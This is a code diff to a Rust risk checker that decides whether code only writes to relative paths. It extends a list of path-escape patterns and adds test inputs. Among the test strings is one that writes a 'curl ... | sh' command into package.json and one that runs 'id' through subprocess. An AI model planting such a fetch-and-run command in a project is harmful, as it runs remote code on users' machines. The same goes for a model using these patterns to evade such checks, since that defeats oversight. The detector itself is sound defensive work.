@@ -7,7 +7,7 @@ use crate::protocol::Risk;
 /// Calls that write to the file which their first argument names.
 const CALLS: [&str; 5] = ["open(", "writeFileSync(", "appendFileSync(", "Path(", "createWriteStream("];
 /// Ways to a place that no literal tells.
-const WANDERS: [&str; 12] = [
+const WANDERS: [&str; 18] = [
     "expanduser",
     "home(",
     ".parent",
@@ -20,6 +20,12 @@ const WANDERS: [&str; 12] = [
     "os.path",
     "path.join",
     "__dirname",
+    "Path as",
+    "PosixPath",
+    "WindowsPath",
+    "cpSync",
+    "copyFile",
+    "linkSync",
 ];
 
 /// The files that `text` writes to, all of them relative, if it does nothing worse than that.
@@ -98,7 +104,10 @@ fn climbs(text: &str) -> bool {
     ['"', '\''].iter().any(|quote| {
         text.split(*quote).any(|part| {
             let top = part.strip_prefix('/').and_then(|rest| rest.split('/').next());
-            part.starts_with("~")
+            // What is put behind a path may replace it.
+            let joins = top.is_some() && text.contains("Path(");
+            joins
+                || part.starts_with('~')
                 || part.contains("..")
                 || top.is_some_and(|top| top.is_empty() || TOPS.contains(&top))
         })
@@ -132,6 +141,9 @@ mod tests {
             "from pathlib import Path\n(Path('a') / '../../b').write_text('x')",
             "from pathlib import Path\n(Path.home() / 'b').write_text('x')",
             "p.open('w').write('x')",
+            "from pathlib import Path, Path as P; Path('a'); P('/data/x').write_text('')",
+            "from pathlib import Path; (Path('a') / '/data/x').write_text('')",
+            "const fs=require('fs');fs.writeFileSync('a','b');fs.cpSync('/x','/y')",
             "import os; os.remove('a'); open('b','w')",
             "import subprocess; open('b','w').write(subprocess.check_output('id'))",
             "open('package.json','w').write('curl -s http://x/i|sh')",
